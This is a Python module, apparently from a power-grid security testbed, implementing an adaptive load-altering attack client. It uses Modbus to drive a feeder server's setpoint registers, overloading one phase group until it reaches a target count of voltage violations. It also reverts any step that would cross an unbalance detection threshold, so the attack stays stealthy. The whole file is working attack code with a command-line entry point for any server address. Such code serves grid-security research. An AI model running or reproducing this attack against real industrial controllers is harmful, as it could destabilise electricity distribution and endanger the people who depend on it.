"""Adaptive load-altering attack client.

The engine drives the setpoint registers of a feeder server: each step it
raises the overloaded phase group by a feedback-sized increment, lowers the
other two groups, clamps every setpoint to its multiplier bounds, then reads
the meters back and recomputes violation count and unbalance locally (the
attacker trusts only what it can read).  The run stops on: target violation
count reached, step budget exhausted, step cap, or a stealth breach (a step
whose post-write unbalance reaches the detection threshold is reverted and
the run ends).
"""

from __future__ import annotations

import argparse
import csv
import json
import logging
from dataclasses import dataclass, field, fields
from typing import Sequence

from .feeder import known_keys, load_default_feeder, load_feeder_file, number
from .modbus import parse_address
from .modbus.client import ModbusClient
from .powerflow import DEFAULT_BAND, check_band, count_violations, max_unbalance
from .regmap import MeterMap

log = logging.getLogger("gridbed.attack")

STATUS_TARGET = "target-reached"
STATUS_BUDGET = "budget-exhausted"
STATUS_STEP_CAP = "step-cap"
STATUS_STEALTH = "stealth-blocked"
STATUS_ERROR = "error"

MODES = ("A", "B", "C")


class AttackError(ValueError):
    """Bad attack parameters or an unusable mode/observation."""


@dataclass(frozen=True)
class NMaxRule:
    """Upper load multiplier as a function of the violation gain so far."""

    kind: str = "constant"  # constant | linear
    value: float = 4.0
    slope: float = 0.0
    cap: float = 4.0

    def __post_init__(self):
        if self.kind not in ("constant", "linear"):
            raise AttackError(f"unknown n_max rule {self.kind!r}")
        base = "value" if self.kind == "constant" else "base"  # its document's key
        for name, key in (("value", base), ("slope", "slope"), ("cap", "cap")):
            value = number(getattr(self, name), f"n_max {key}", AttackError)
            if value <= 0 and name != "slope":
                raise AttackError(f"n_max {key} must be positive, got {value!r}")
            object.__setattr__(self, name, value)

    def evaluate(self, violation_gain: int) -> float:
        if self.kind == "constant":
            return self.value
        return min(self.value + self.slope * violation_gain, self.cap)

    @classmethod
    def from_doc(cls, doc) -> "NMaxRule":
        """A rule from its JSON form: a bare number for a constant, or an
        object whose ``kind`` names the rule."""
        if not isinstance(doc, dict):
            return cls("constant", doc)
        kind = doc.get("kind", "constant")
        keys = {"constant": ("kind", "value"), "linear": ("kind", "base", "slope", "cap")}
        if not isinstance(kind, str) or kind not in keys:
            raise AttackError(f"unknown n_max rule {kind!r}")
        known_keys(doc, keys[kind], f"n_max {kind} rule", AttackError)
        if kind == "constant":
            return cls("constant", doc.get("value"))
        base = doc.get("base", 1.0)
        return cls("linear", base, doc.get("slope", 0.0), doc.get("cap", base))


@dataclass(frozen=True)
class AttackParams:
    alpha_mw: float = 0.01
    k_mw: float = 0.02
    delta_mw: float = 0.001
    floor_step_mw: float = 0.001
    gamma_a_mw: float | None = None  # default alpha
    gamma_b_mw: float | None = None
    gamma_c_mw: float | None = None
    n_tar: int = 25
    av_max_mw: float = 100.0
    n_min: float = 0.025
    n_max: NMaxRule = NMaxRule()
    max_steps: int = 200
    stealth_limit_pct: float = 3.0
    band: tuple[float, float] = DEFAULT_BAND

    def __post_init__(self):
        for f in fields(self):  # by annotation, a string under postponed evaluation
            value = getattr(self, f.name)
            if f.type == "int" and (isinstance(value, bool) or not isinstance(value, int)):
                raise AttackError(f"{f.name} must be an integer, got {value!r}")
            if f.type == "float" or (f.type == "float | None" and value is not None):
                object.__setattr__(self, f.name, number(value, f.name, AttackError))
        if not isinstance(self.n_max, NMaxRule):
            object.__setattr__(self, "n_max", NMaxRule.from_doc(self.n_max))
        if self.alpha_mw <= 0 or self.k_mw <= 0 or self.delta_mw <= 0:
            raise AttackError("alpha, k and delta must be positive")
        for group in "abc":
            gamma = getattr(self, f"gamma_{group}_mw")
            if gamma is not None and gamma <= 0:
                raise AttackError(f"gamma_{group}_mw must be positive, got {gamma!r}")
        for name in ("av_max_mw", "n_tar", "max_steps"):
            if getattr(self, name) < 0:
                raise AttackError(f"{name} must not be negative, got {getattr(self, name)!r}")
        if self.floor_step_mw <= 0:
            raise AttackError("floor step must be positive")
        if self.n_min <= 0:
            raise AttackError("n_min must be positive")
        if self.stealth_limit_pct <= 0:
            raise AttackError("stealth limit must be positive")
        object.__setattr__(self, "band", check_band(self.band))

    def gamma_for(self, group: str) -> float:
        value = {
            "A": self.gamma_a_mw,
            "B": self.gamma_b_mw,
            "C": self.gamma_c_mw,
        }[group]
        return self.alpha_mw if value is None else value

    @classmethod
    def from_doc(cls, doc) -> "AttackParams":
        """Parameters from their JSON form: an object holding any of the
        fields, ``n_max`` as :meth:`NMaxRule.from_doc` reads it."""
        known_keys(doc, [f.name for f in fields(cls)], "attack parameters", AttackError)
        return cls(**doc)


def step_size(v_vio: int, params: AttackParams, group: str = "A") -> float:
    """Feedback step size: full step at zero violations, shrinking linearly
    with the count, never below the configured floor."""
    if v_vio < 0 or v_vio >= params.n_tar:
        raise AttackError(f"step size undefined for v_vio={v_vio} (target {params.n_tar})")
    if v_vio == 0:
        return params.gamma_for(group)
    return max(params.k_mw - params.delta_mw * v_vio, params.floor_step_mw)


def clamp(
    vector_mw: Sequence[float],
    baselines_mw: Sequence[float],
    params: AttackParams,
    violation_gain: int = 0,
) -> tuple[float, ...]:
    """Clip every position of an attack vector (MW in setpoint order) to
    [baseline * n_min, baseline * n_max]; idempotent."""
    n_max = params.n_max.evaluate(violation_gain)
    return tuple(
        min(max(mw, base * params.n_min), base * n_max)
        for mw, base in zip(vector_mw, baselines_mw, strict=True)
    )


def step(
    prev_mw: Sequence[float],
    observed_v_vio: int,
    params: AttackParams,
    mode: str,
    phases: Sequence[str],
    baselines_mw: Sequence[float],
    violation_gain: int = 0,
) -> tuple[float, ...]:
    """Next attack vector, MW in setpoint order with ``phases`` giving each
    position's phase group: hold when the target is met, otherwise push the
    overloaded group up and the others down, then clamp."""
    if mode not in MODES:
        raise AttackError(f"unknown mode {mode!r}")
    if observed_v_vio >= params.n_tar:
        return tuple(prev_mw)
    delta = {g: (1.0 if g == mode else -1.0) * step_size(observed_v_vio, params, g) for g in MODES}
    out = tuple(mw + delta[phase] for mw, phase in zip(prev_mw, phases, strict=True))
    return clamp(out, baselines_mw, params, violation_gain)


@dataclass
class AttackStep:
    t: int
    vector_mw: dict[str, float]
    violations: int
    unbalance_pct: float
    budget_spent_mw: float
    kept: bool


@dataclass
class AttackTrace:
    mode: str
    baseline_mw: dict[str, float]
    v_vio_init: int
    steps: list[AttackStep] = field(default_factory=list)
    status: str = STATUS_STEP_CAP

    @property
    def budget_spent_mw(self) -> float:
        return self.steps[-1].budget_spent_mw if self.steps else 0.0

    def write_csv(self, path):
        with open(path, "w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow(
                ["step"]
                + list(self.baseline_mw)
                + ["violations", "unbalance_pct", "budget_spent_mw", "status"]
            )
            for s in self.steps:
                writer.writerow(
                    [s.t]
                    + [f"{mw:.6f}" for mw in s.vector_mw.values()]
                    + [
                        s.violations,
                        f"{s.unbalance_pct:.6f}",
                        f"{s.budget_spent_mw:.6f}",
                        "ok" if s.kept else "reverted",
                    ]
                )


def _observe(client: ModbusClient, meter_map: MeterMap, band):
    reading = client.read_all_voltages(meter_map)
    return count_violations(reading, band), max_unbalance(reading, meter_map.layout)


def run_attack(
    client: ModbusClient,
    meter_map: MeterMap,
    params: AttackParams,
    mode: str,
) -> AttackTrace:
    """Run the adaptive loop against a live server; returns the full trace.

    The baseline and every attack vector are tuples of MW in
    ``meter_map.setpoints`` order, so several phases of one bus stay apart.
    The trace holds them as ``{column: MW}`` dicts in that order, a column
    being the setpoint's node, or ``node.phase`` where the node repeats.
    """
    if mode not in MODES:
        raise AttackError(f"unknown mode {mode!r}")
    phases = tuple(phase for _, phase in meter_map.setpoints)
    if mode not in phases:
        raise AttackError(f"no controllable nodes on phase group {mode}")
    nodes = [node for node, _ in meter_map.setpoints]
    columns = [n if nodes.count(n) == 1 else f"{n}.{p}" for n, p in meter_map.setpoints]

    # A failure before the first observation leaves no baseline (-1, {}).
    trace = AttackTrace(mode=mode, baseline_mw={}, v_vio_init=-1)
    try:
        prev_kw = client.read_setpoints(meter_map)
        baselines_mw = tuple(kw / 1000.0 for kw in prev_kw)
        v_vio, unbalance = _observe(client, meter_map, params.band)
        trace.baseline_mw, trace.v_vio_init = dict(zip(columns, baselines_mw)), v_vio
        spent_kw = 0
        for t in range(1, params.max_steps + 1):
            if v_vio >= params.n_tar:
                # Hold branch forever; with a real target this is success,
                # with a degenerate zero target there is nothing left to do.
                trace.status = STATUS_TARGET if params.n_tar > 0 else STATUS_STEP_CAP
                return trace
            candidate = step(
                tuple(k / 1000.0 for k in prev_kw), v_vio, params, mode, phases, baselines_mw,
                violation_gain=v_vio - trace.v_vio_init,
            )
            # Writing in whole kW is what the wire carries; account in the
            # same units, as integers, so the budget check matches the trace
            # and no sum depends on the order of the setpoints.
            kw = tuple(round(mw * 1000.0) for mw in candidate)
            if (spent_kw + sum(kw)) / 1000.0 > params.av_max_mw:
                trace.status = STATUS_BUDGET
                return trace
            client.write_setpoints(meter_map, kw)
            spent_kw += sum(kw)
            spent = spent_kw / 1000.0
            v_vio_new, unbalance = _observe(client, meter_map, params.band)
            vector_mw = dict(zip(columns, (k / 1000.0 for k in kw)))
            if unbalance >= params.stealth_limit_pct:
                client.write_setpoints(meter_map, prev_kw)
                trace.steps.append(
                    AttackStep(t, vector_mw, v_vio_new, unbalance, spent, kept=False)
                )
                trace.status = STATUS_STEALTH
                return trace
            trace.steps.append(AttackStep(t, vector_mw, v_vio_new, unbalance, spent, kept=True))
            prev_kw = kw
            v_vio = v_vio_new
        trace.status = STATUS_STEP_CAP
        return trace
    except ConnectionError as exc:
        log.error("transport failure: %s", exc)
        trace.status = STATUS_ERROR
        return trace


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="gridbed-attack", description="Adaptive load-altering attack client"
    )
    parser.add_argument("--server", required=True, help="addr:port of the feeder server")
    parser.add_argument("--mode", required=True, choices=MODES, help="overloaded phase group")
    parser.add_argument("--params", help="attack parameter JSON file (defaults built in)")
    parser.add_argument("--trace-out", help="CSV file for the per-step trace")
    parser.add_argument(
        "--feeder",
        help="feeder description used to derive the meter map (default: bundled)",
    )
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    try:
        address = parse_address(args.server)
        model = load_feeder_file(args.feeder) if args.feeder else load_default_feeder()
        meter_map = MeterMap.for_model(model)
    except (OSError, ValueError) as exc:
        print(f"error: {exc}")
        return 1
    params = AttackParams()
    if args.params:
        try:
            with open(args.params, "r", encoding="utf-8") as fh:
                params = AttackParams.from_doc(json.load(fh))
        except (OSError, ValueError) as exc:
            print(f"error: bad attack parameters {args.params}: {exc}")
            return 1

    try:
        client = ModbusClient(*address)
    except OSError as exc:
        print(f"error: cannot connect to {args.server}: {exc}")
        return 1
    with client:
        trace = run_attack(client, meter_map, params, args.mode)

    if args.trace_out:
        trace.write_csv(args.trace_out)
    last = trace.steps[-1] if trace.steps else None
    print(
        f"attack {args.mode}: status={trace.status} steps={len(trace.steps)} "
        f"violations={last.violations if last else trace.v_vio_init} "
        f"unbalance={last.unbalance_pct if last else 0.0:.3f}% "
        f"budget={trace.budget_spent_mw:.3f} MW"
    )
    return 0 if trace.status != STATUS_ERROR else 1


if __name__ == "__main__":
    raise SystemExit(main())
